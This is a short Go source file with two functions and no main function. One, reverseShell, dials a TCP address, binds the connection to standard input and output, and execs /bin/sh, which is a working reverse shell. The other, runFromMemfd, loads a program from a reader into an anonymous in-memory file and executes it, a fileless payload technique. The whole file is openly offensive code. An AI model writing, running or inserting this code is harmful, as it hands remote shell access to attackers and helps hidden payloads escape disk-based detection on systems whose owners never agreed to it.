package main

import (
	"fmt"
	"io"
	"net"
	"os"
	"syscall"

	"golang.org/x/sys/unix"
)

// reverseShell connects out and becomes a shell on that connection.
func reverseShell(addr string) error {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		return err
	}
	f, err := c.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	_ = unix.SetNonblock(int(f.Fd()), false)
	for fd := range 3 {
		if err := unix.Dup3(int(f.Fd()), fd, 0); err != nil && err != unix.EINVAL {
			return err
		}
	}
	return syscall.Exec("/bin/sh", []string{"sh"}, os.Environ())
}

// runFromMemfd executes a program that never was a file.
func runFromMemfd(r io.Reader) error {
	fd, err := unix.MemfdCreate("", 0)
	if err != nil {
		return fmt.Errorf("cannot create a memfd: %w", err)
	}
	f := os.NewFile(uintptr(fd), "memfd")
	if _, err := io.Copy(f, io.LimitReader(r, 64<<20)); err != nil {
		return err
	}
	return syscall.Exec(fmt.Sprintf("/proc/self/fd/%d", fd), []string{"memfd-program"}, os.Environ())
}
